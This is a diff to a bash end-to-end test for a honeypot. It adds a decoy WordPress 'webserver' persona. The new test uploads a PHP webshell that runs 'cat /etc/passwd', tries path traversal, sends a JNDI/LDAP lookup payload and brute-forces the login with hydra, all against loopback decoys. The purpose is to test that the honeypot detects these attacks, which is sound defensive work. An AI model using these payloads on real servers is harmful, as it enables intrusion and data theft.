@@ -1,6 +1,6 @@
 #!/bin/bash
 # The decoys' web servers met with curl, nmap, hydra and medusa.
-#   tests/e2e/http.sh                                  a kansoku of its own, all three personas
+#   tests/e2e/http.sh                                  a kansoku of its own, four personas
 #   CHDB=/path/libchdb.so tests/e2e/http.sh            the store's engine, if it is elsewhere
 #   HOST=192.0.2.5 PORT=80 PERSONA=camera tests/e2e/http.sh     one that runs already
 # Exit status 0: all held, 1: the last lines say what did not, 77: a client is missing.
@@ -63,6 +63,26 @@ router() {
 	[ "$(wc -l <<<"$found")" = 1 ] || fail "$persona: medusa found a false password: $found"
 }
 
+webserver() {
+	status 200 'front page' "$url/"
+	holds body 'name="generator" content="WordPress 6.1.1"' 'front page'
+	status 200 'form with a wrong password' -d 'log=admin&pwd=x' "$url/wp-login.php"
+	holds body 'The password you entered is incorrect' 'refusal'
+	status 302 'form' -c "$WORK/jar" -d 'log=admin&pwd=admin' "$url/wp-login.php"
+	status 200 'cookie' -b "$WORK/jar" "$url/wp-admin/"
+	holds body Dashboard 'dashboard'
+	printf '<?php echo md5("k"); system($_REQUEST["cmd"]); ?>' >"$WORK/s.php"
+	status 200 'upload of a script' -F "file=@$WORK/s.php" "$url/upload.php"
+	status 200 'webshell' -G --data-urlencode 'cmd=uname -m; cat /etc/passwd' "$url/uploads/s.php"
+	holds body '8ce4b16b22b58894aa86c421e8759df3x86_64' 'webshell'
+	holds body 'www-data:x:33:33' 'webshell'
+	status 200 'traversal by parameter' "$url/download.php?file=../../../../etc/passwd"
+	holds body '^root:x:0:0' 'traversal'
+	status 400 'traversal by path' --path-as-is "$url/../../../etc/passwd"
+	status 200 'lookup' -A '${jndi:ldap://127.9.9.9/a}' "$url/"
+	guess http-post-form '/wp-login.php:log=^USER^&pwd=^PASS^:incorrect'
+}
+
 # Exactly the one password of the list that is right must be found.
 guess() {
 	local found
@@ -71,7 +91,7 @@ guess() {
 	[ "$found" = admin ] || fail "$persona: hydra found \"$found\", expected \"admin\""
 }
 
-declare -A named=([camera]='GoAhead WebServer' [dvr]='uc-httpd 1.0.0' [router]='TP-LINK WR841N')
+declare -A named=([camera]='GoAhead WebServer' [dvr]='uc-httpd 1.0.0' [router]='TP-LINK WR841N' [webserver]='Apache httpd 2.4.56')
 
 meet() { # persona host port
 	persona=$1 host=$2 port=$3 url=http://$2:$3
@@ -98,6 +118,7 @@ loopback_config <<-EOT
 	    - {prefix: 127.21.0.1, personas: [camera]}
 	    - {prefix: 127.21.0.2, personas: [dvr]}
 	    - {prefix: 127.21.0.3, personas: [router]}
+	    - {prefix: 127.21.0.4, personas: [webserver]}
 	  services: {http: {ports: [$HTTP_PORT]}}
 	  workers: 1
 	${CHDB:+store: {library: $CHDB\}}
@@ -106,6 +127,7 @@ start_kansoku
 meet camera 127.21.0.1 $HTTP_PORT
 meet dvr 127.21.0.2 $HTTP_PORT
 meet router 127.21.0.3 $HTTP_PORT
+meet webserver 127.21.0.4 $HTTP_PORT
 
 # What was done above is what was recorded.
 ask() { timeout 20 "$KANSOKU" query --config "$CONFIG" --format tsv "$1" 2>/dev/null; }
@@ -119,7 +141,7 @@ done
 accepted=$(count "kind = 'login.tried' AND login_accepted = 1 AND persona = 'dvr'")
 [ "$accepted" = 2 ] || fail "dvr: $accepted logins accepted, expected 2: curl's and hydra's"
 uploads=$(ask "SELECT count(), uniqExact(file_sha256) FROM log WHERE kind = 'file.captured' AND file_sha256 != ''")
-[ "$uploads" = "3	1" ] || fail "uploads and their digests: $uploads, expected 3 of one file"
+[ "$uploads" = "4	2" ] || fail "uploads and their digests: $uploads, expected 3 of one file and a script"
 jaws=$(count "kind = 'file.captured' AND value[indexOf(field, 'file.url')] = 'http://127.9.9.9/jaws'")
 [ "$jaws" = 1 ] || fail "dvr: the file that an attack named was recorded $jaws times"
 echo "recorded: $seen requests of the router's visitors, 3 uploads of one file, 1 file named"
